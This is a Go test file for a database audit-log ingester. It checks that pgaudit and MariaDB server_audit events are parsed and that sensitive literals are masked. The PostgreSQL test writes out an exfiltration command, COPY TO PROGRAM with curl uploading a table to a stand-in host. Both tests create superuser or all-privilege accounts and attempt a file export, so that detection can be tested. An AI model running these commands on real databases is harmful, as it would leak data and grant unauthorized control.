package ingest

import (
	"context"
	"database/sql"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	driver "github.com/go-sql-driver/mysql"
	_ "github.com/jackc/pgx/v5/stdlib"

	"github.com/shuan-dev/shuan"
	"github.com/shuan-dev/shuan/source/sourcetest"
)

// readFrom reads path from offset to its end as the Tailer would after a
// restart at that offset, and returns the events matching keep.
func readFrom(t *testing.T, path string, p Parser, offset int64, keep func(shuan.Event) bool) ([]shuan.Event, []Counts) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	gen := genOf(f)
	f.Close()
	abs, _ := filepath.Abs(path)
	pos, _ := OpenPositions("")
	pos.Set(p.Source()+" "+abs, FilePos{Gen: gen, Offset: offset})
	st := &Stats{}
	tl := &Tailer{Path: path, Parser: p, Positions: pos, Stats: st, Once: true}
	var out []shuan.Event
	err = tl.Run(context.Background(), func(ctx context.Context, evs []shuan.Event) error {
		for _, e := range evs {
			if keep(e) {
				out = append(out, e)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out, st.Snapshot()
}

func find(evs []shuan.Event, match func(shuan.Event) bool) (shuan.Event, bool) {
	for _, e := range evs {
		if match(e) {
			return e, true
		}
	}
	return shuan.Event{}, false
}

const secretLiteral = "secret-13800138000"

func noLiteral(t *testing.T, evs []shuan.Event) {
	t.Helper()
	for _, e := range evs {
		if strings.Contains(e.Statement, "13800138000") || strings.Contains(e.Message, "13800138000") {
			t.Errorf("literal kept in %+v", e)
		}
	}
}

// TestPgauditEndToEnd runs real statements on PostgreSQL with pgaudit and
// reads them back from the server log.
func TestPgauditEndToEnd(t *testing.T) {
	admin := sourcetest.Env(t, "SHUAN_TEST_PG_ADMIN_URL")
	logPath := sourcetest.Env(t, "SHUAN_TEST_PG_LOG")
	ctx := context.Background()
	adb, err := sql.Open("pgx", admin)
	if err != nil {
		t.Fatal(err)
	}
	// Cleanups run after defers and last-registered first: close last.
	t.Cleanup(func() { adb.Close() })
	fi, err := os.Stat(logPath)
	if err != nil {
		t.Fatal(err)
	}
	offset := fi.Size()
	suffix := rand.Int64N(1 << 40)
	dbName := fmt.Sprintf("ingest_e2e_%d", suffix)
	low := fmt.Sprintf("ingest_low_%d", suffix)
	evil := fmt.Sprintf("ingest_evil_%d", suffix)
	if _, err := adb.Exec("CREATE DATABASE " + dbName); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		adb.Exec("DROP DATABASE IF EXISTS " + dbName + " WITH (FORCE)")
		adb.Exec("DROP ROLE IF EXISTS " + evil)
		adb.Exec("DROP ROLE IF EXISTS " + low)
	})
	u, _ := url.Parse(admin)
	u.Path = "/" + dbName
	db, err := sql.Open("pgx", u.String())
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	exec := func(q string) error {
		_, err := conn.ExecContext(ctx, q)
		return err
	}
	must := func(q string) {
		if err := exec(q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	must("CREATE EXTENSION IF NOT EXISTS pgaudit")
	logRows := exec("SET pgaudit.log_rows = on") == nil
	must("CREATE TABLE big (id int PRIMARY KEY, phone text)")
	must("INSERT INTO big SELECT g, '1380013' || lpad(g::text, 4, '0') FROM generate_series(1, 20000) g")
	rows, err := conn.QueryContext(ctx, "SELECT id, phone FROM big WHERE phone <> '"+secretLiteral+"'")
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for rows.Next() {
		n++
	}
	rows.Close()
	must("DELETE FROM big\n WHERE id > 100")
	must("CREATE ROLE " + low)
	must("GRANT SELECT ON big TO " + low)
	must("SET ROLE " + low)
	copyErr := exec("COPY big TO PROGRAM 'curl -T - http://203.0.113.9/'")
	must("RESET ROLE")
	must("CREATE ROLE " + evil + " SUPERUSER LOGIN PASSWORD 'pw-13800138000'")
	t.Logf("selected %d rows; pgaudit.log_rows settable: %v; COPY TO PROGRAM as %s: %v", n, logRows, low, copyErr)

	var evs []shuan.Event
	var counts []Counts
	p, _ := NewPgaudit(Options{})
	for deadline := time.Now().Add(10 * time.Second); ; {
		evs, counts = readFrom(t, logPath, p, offset, func(e shuan.Event) bool { return e.Database == dbName })
		if _, ok := find(evs, func(e shuan.Event) bool { return e.Action == "CREATE_ROLE" }); ok || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
		p, _ = NewPgaudit(Options{})
	}
	for _, e := range evs {
		t.Logf("%s %-12s %-6s rows=%-6d ok=%-5v %s %v", e.Time.Format(time.RFC3339Nano), e.Action, e.Class, e.Rows, e.Success, e.Statement, e.Fields["export"]+e.Fields["privileged"])
	}
	t.Logf("log segment stats: %+v", counts)
	noLiteral(t, evs)

	sel, ok := find(evs, func(e shuan.Event) bool {
		return e.Action == "SELECT" && strings.Contains(e.Statement, "FROM big WHERE phone <> ?")
	})
	if !ok {
		t.Fatal("large SELECT not found")
	}
	if sel.Object != "big" || sel.Actor == "" || sel.Client == "" || sel.Class != "READ" {
		t.Errorf("select event %+v", sel)
	}
	if logRows && sel.Rows != 20000 {
		t.Errorf("select rows = %d, want 20000", sel.Rows)
	}
	del, ok := find(evs, func(e shuan.Event) bool { return e.Action == "DELETE" })
	if !ok {
		t.Fatal("DELETE not found")
	}
	if del.Statement != "DELETE FROM big\n WHERE id > ?" && del.Statement != "DELETE FROM big WHERE id > ?" {
		t.Errorf("delete statement %q", del.Statement)
	}
	if logRows && del.Rows != 19900 {
		t.Errorf("delete rows = %d, want 19900", del.Rows)
	}
	cp, ok := find(evs, func(e shuan.Event) bool { return e.Action == "COPY" && e.Fields["export"] == "program" })
	if !ok {
		t.Fatal("COPY TO PROGRAM attempt not found")
	}
	if copyErr != nil && cp.Success {
		t.Errorf("failed COPY reported as success: %+v", cp)
	}
	if strings.Contains(cp.Statement, "203.0.113.9") {
		t.Errorf("copy program kept: %q", cp.Statement)
	}
	role, ok := find(evs, func(e shuan.Event) bool { return e.Action == "CREATE_ROLE" && e.Object == evil })
	if !ok {
		t.Fatal("CREATE ROLE not found")
	}
	if role.Fields["privileged"] != "superuser" || role.Class != "ROLE" {
		t.Errorf("role event %+v", role)
	}
	// Reading the same segment again yields the same ids.
	again, _ := readFrom(t, logPath, func() Parser { p, _ := NewPgaudit(Options{}); return p }(), offset, func(e shuan.Event) bool { return e.Database == dbName })
	if len(again) < len(evs) || again[0].ID != evs[0].ID {
		t.Errorf("re-read gives other ids")
	}
}

// mysqlDB opens the MariaDB test server.
func mysqlDB(t *testing.T) *sql.DB {
	raw := sourcetest.Env(t, "SHUAN_TEST_MYSQL_URL")
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	cfg := driver.NewConfig()
	cfg.Net, cfg.Addr = "tcp", u.Host
	cfg.User = u.User.Username()
	cfg.Passwd, _ = u.User.Password()
	db, err := sql.Open("mysql", cfg.FormatDSN())
	if err != nil {
		t.Fatal(err)
	}
	return db
}

// TestMariaDBEndToEnd runs real statements on MariaDB with the
// server_audit plugin logging to a file of ours, and reads them back.
func TestMariaDBEndToEnd(t *testing.T) {
	db := mysqlDB(t)
	t.Cleanup(func() { db.Close() })
	ctx := context.Background()
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	var status string
	err = conn.QueryRowContext(ctx, "SELECT PLUGIN_STATUS FROM information_schema.PLUGINS WHERE PLUGIN_NAME = 'SERVER_AUDIT'").Scan(&status)
	if err == sql.ErrNoRows {
		if _, err := conn.ExecContext(ctx, "INSTALL SONAME 'server_audit'"); err != nil {
			t.Fatalf("install server_audit: %v", err)
		}
	} else if err != nil {
		t.Fatal(err)
	}
	old := map[string]string{}
	for _, v := range []string{"server_audit_file_path", "server_audit_logging", "server_audit_events"} {
		var name, val string
		if err := conn.QueryRowContext(ctx, "SHOW GLOBAL VARIABLES LIKE '"+v+"'").Scan(&name, &val); err != nil {
			t.Fatal(err)
		}
		old[v] = val
	}
	// The server runs as another user: it needs a directory it can write.
	dir, err := os.MkdirTemp("", "shuan-audit-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(dir, 0o777)
	t.Cleanup(func() { os.RemoveAll(dir) })
	logPath := filepath.Join(dir, "server_audit.log")
	must := func(q string) {
		if _, err := conn.ExecContext(ctx, q); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
	}
	must("SET GLOBAL server_audit_logging = OFF")
	must("SET GLOBAL server_audit_file_path = '" + logPath + "'")
	must("SET GLOBAL server_audit_events = 'CONNECT,QUERY,TABLE'")
	must("SET GLOBAL server_audit_logging = ON")
	t.Cleanup(func() {
		conn.ExecContext(ctx, "SET GLOBAL server_audit_logging = OFF")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_file_path = '"+strings.ReplaceAll(old["server_audit_file_path"], "'", "''")+"'")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_events = '"+old["server_audit_events"]+"'")
		conn.ExecContext(ctx, "SET GLOBAL server_audit_logging = "+old["server_audit_logging"])
	})
	suffix := rand.Int64N(1 << 40)
	dbName := fmt.Sprintf("ingest_e2e_%d", suffix)
	evil := fmt.Sprintf("ingest_evil_%d", suffix)
	must("CREATE DATABASE " + dbName)
	t.Cleanup(func() {
		db.Exec("DROP DATABASE IF EXISTS " + dbName)
		db.Exec("DROP USER IF EXISTS '" + evil + "'@'%'")
	})
	must("USE " + dbName)
	must("CREATE TABLE big (id INT PRIMARY KEY, phone VARCHAR(20), note TEXT)")
	var vals []string
	for i := 1; i <= 5000; i++ {
		vals = append(vals, fmt.Sprintf("(%d, '1380013%04d', 'a, b')", i, i))
	}
	must("INSERT INTO big VALUES " + strings.Join(vals, ","))
	rows, err := conn.QueryContext(ctx, "SELECT id, phone FROM big WHERE phone <> '"+secretLiteral+"'")
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
	}
	rows.Close()
	must("DELETE FROM big WHERE id > 10")
	_, outErr := conn.ExecContext(ctx, "SELECT id, phone FROM big INTO OUTFILE '"+filepath.Join(dir, "out.csv")+"'")
	must("CREATE USER '" + evil + "'@'%' IDENTIFIED BY 'pw-13800138000'")
	must("GRANT ALL ON *.* TO '" + evil + "'@'%' WITH GRANT OPTION")
	must("SET GLOBAL server_audit_logging = OFF")
	t.Logf("INTO OUTFILE: %v", outErr)

	evs, counts := readFrom(t, logPath, NewMariaDB(Options{}), 0, func(e shuan.Event) bool {
		return e.Database == dbName || strings.HasPrefix(e.Object, dbName+".")
	})
	for _, e := range evs {
		t.Logf("%s %-12s %-5s ok=%-5v %-28s %s %v", e.Time.Format(time.RFC3339), e.Action, e.Class, e.Success, e.Object, truncate(e.Statement, 80), e.Fields["export"]+e.Fields["privileged"])
	}
	t.Logf("stats: %+v", counts)
	for _, c := range counts {
		if c.Malformed != 0 {
			t.Errorf("malformed records in a real server_audit log: %+v", c)
		}
	}
	noLiteral(t, evs)
	checks := []struct {
		what  string
		match func(shuan.Event) bool
	}{
		{"large SELECT", func(e shuan.Event) bool {
			return e.Action == "SELECT" && e.Object == dbName+".big" && e.Statement == "SELECT id, phone FROM big WHERE phone <> ?"
		}},
		{"table read", func(e shuan.Event) bool { return e.Action == "TABLE_READ" && e.Object == dbName+".big" }},
		{"mass DELETE", func(e shuan.Event) bool {
			return e.Action == "DELETE" && e.Class == "WRITE" && e.Object == dbName+".big" && e.Rows == -1
		}},
		{"INTO OUTFILE", func(e shuan.Event) bool { return e.Fields["export"] == "outfile" && e.Success == (outErr == nil) }},
		{"CREATE USER", func(e shuan.Event) bool { return e.Action == "CREATE_ROLE" && e.Object == evil }},
		{"GRANT ALL", func(e shuan.Event) bool { return e.Action == "GRANT" && e.Fields["privileged"] == "all_privileges" }},
		// server_audit cuts queries at server_audit_query_log_limit (1024):
		// the cut string literal still hides its text.
		{"bulk INSERT", func(e shuan.Event) bool {
			return e.Action == "INSERT" && strings.HasPrefix(e.Statement, "INSERT INTO big VALUES (?)") && !strings.Contains(e.Statement, "1380013")
		}},
	}
	for _, c := range checks {
		if _, ok := find(evs, c.match); !ok {
			t.Errorf("%s: no matching event", c.what)
		}
	}
}
